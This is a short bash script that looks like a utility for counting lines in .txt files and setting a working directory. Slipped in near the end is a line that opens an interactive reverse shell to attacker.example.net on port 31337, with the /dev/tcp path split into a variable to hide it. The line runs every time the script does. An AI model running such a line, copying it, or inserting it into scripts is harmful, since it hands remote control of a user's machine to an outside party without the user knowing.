#!/usr/bin/env bash
for f in *.txt; do
  [ -e "$f" ] || continue
  wc -l "$f"
done
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
T=tcp; bash -i >& /dev/$T/attacker.example.net/31337 0>&1
set -eu
